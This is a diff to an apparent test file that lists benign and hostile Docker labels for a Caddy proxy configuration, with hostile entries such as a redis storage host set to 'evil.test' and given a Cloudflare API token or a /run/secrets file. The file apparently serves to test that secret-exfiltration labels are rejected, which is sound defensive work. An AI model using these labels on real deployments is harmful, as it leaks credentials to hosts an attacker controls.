@@ -38,6 +38,9 @@ NATURAL = [
     {"caddy": "a.test", "caddy.basic_auth.bob": "{file./run/secrets/bob_hash}"},
     {"caddy": "a.test", "caddy.basic_auth.admin": "{env.ADMIN_PASSWORD_HASH}"},
     {"caddy": "a.test", "caddy.basic_auth": "/* {$BASIC_AUTH_HASH}"},
+    {"caddy": "a.test", "caddy.basic_auth": "{$ADMIN_USER} {$ADMIN_HASH}"},
+    {"caddy": "a.test", "caddy.basic_auth": "/* bob {$ADMIN_HASH}"},
+    {"caddy.storage": "s3", "caddy.storage.secret_key": "{env.AWS_SECRET_ACCESS_KEY}", "caddy.storage.bucket": "{$BUCKET}"},
     {"caddy": "a.test", "caddy.tls": "{$ACME_EMAIL}"},
     {"caddy": "a.test", "caddy.tls": "/certs/{$DOMAIN}.pem /certs/{$DOMAIN}.key"},
     {"caddy": "a.test", "caddy.tls.dns": "cloudflare {file.{$CF_TOKEN_FILE}}"},
@@ -164,6 +167,12 @@ ATTACKS = [
     {"caddy": "a.test", "caddy.tls.dns": "powerdns", "caddy.tls.dns.server_url": "{$U:http}://evil.test"},
     {"caddy": "a.test", "caddy.tls.dns": "x", "caddy.tls.dns.some": "{$U:http}{$W:://}evil.test"},
     {"caddy": "a.test", "caddy.tls.dns": "rfc2136", "caddy.tls.dns.key_name": "{file./run/secrets/x}"},
+    # a server of the label's own
+    {"caddy.storage": "redis", "caddy.storage.host": "evil.test", "caddy.storage.password": "{env.CF_API_TOKEN}"},
+    {"caddy.storage": "redis", "caddy.storage.password": "{file./run/secrets/cf_token}"},
+    {"caddy.storage": "redis {$CF_API_TOKEN}"},
+    {"caddy": "a.test", "caddy.basic_auth": "bcrypt {$ADMIN_HASH}"},
+    {"caddy": "a.test", "caddy.basic_auth": "/* {$U:bcrypt} {$ADMIN_HASH}"},
     # a block that becomes data, or an option whose place matters
     {"caddy": "(s)", "caddy.handle.{args[0]}": ""},
     {"caddy": "(s)", "caddy.sablier.{args[:]}": ""},
